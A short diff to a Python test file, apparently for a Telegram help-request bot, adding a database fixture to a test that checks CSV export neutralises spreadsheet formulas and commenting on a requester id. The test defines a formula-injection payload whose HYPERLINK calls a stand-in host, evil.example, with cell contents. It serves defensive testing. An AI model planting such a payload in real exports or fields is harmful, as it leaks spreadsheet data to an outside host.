@@ -123,7 +123,7 @@ async def test_a_forged_id_beyond_the_column_is_an_expired_button(app, person, c
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Siti")'
 
 
-async def test_the_csv_export_neutralises_formulas(person, monkeypatch, capsys, database_url):
+async def test_the_csv_export_neutralises_formulas(person, db, monkeypatch, capsys, database_url):
     p = await villager(person, 706)
     await ask_for_help(
         p,
@@ -148,7 +148,7 @@ async def test_the_csv_export_neutralises_formulas(person, monkeypatch, capsys, 
     )
     assert (row["contact"], row["requester_id"], row["reference"]) == (
         FAMILY["contact"],
-        "706",
+        "706",  # the Telegram id the reader can look up, not the internal person id
         "DM-2026-000001",
     )
     assert await asyncio.to_thread(cli, [*argv, "--format", "json", "--with-personal-data"]) == 0
